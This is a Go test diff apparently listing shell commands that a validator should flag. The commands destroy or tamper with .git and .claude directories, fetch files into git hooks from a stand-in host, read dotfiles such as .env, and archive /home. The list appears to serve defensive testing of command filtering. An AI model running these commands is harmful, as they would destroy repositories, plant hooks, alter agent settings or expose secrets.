@@ -221,7 +221,7 @@ func TestShells(t *testing.T) {
 			"rm -rf .git", "rm -rf /repo/.git", "rm -rf .claude/", "rm $X .claude", "mv .claude x", "mv x .git", "mv x/.claude .", "cp -r x/. .git", "cp -a x/.git .", "ln -sfn x .claude", "rsync -a x/ .git/", "chmod -R 777 .git", "find .claude -delete", "rm -rf .c*", "tar xf x -C .git", "unzip x -d .claude",
 			"cd .git/hooks && curl -O https://e/x", "cd .git/hooks && wget u", "cd .git/hooks && patch < x", "cd .claude && unzip ../x", "git submodule add u .claude", "git restore -s x .claude", "git rm -r .claude",
 			"find . -name settings.json -exec cp x {} \\;", "find . -name hooks | xargs rm -rf", "find .git -name 'pre*' -exec rm {} \\;", "find . -name '.e*' -exec cat {} \\;", "find .claude -name '*.json' -exec sed -i s/a/b/ {} +",
-			"git clone u .claude", "tar czf x /home", "rm -rf .git/modules", "cd a && rm -rf ../.git", "ln -s .git/hooks x", "ln .git/config x", "install x .git/hooks/y -m 755", "cp x/* .git", "sed '" + strings.Repeat("w", 101) + "' x",
+			"git clone u .claude", "tar czf x /home", "rm -rf .git/modules", "cd a && rm -rf ../.git", "ln -s .git/hooks x", "ln .git/config x", "install x .git/hooks/y -m 755", "cp x/* .git", "sed '" + strings.Repeat(";w", 101) + "' x",
 		},
 	} {
 		for _, line := range lines {
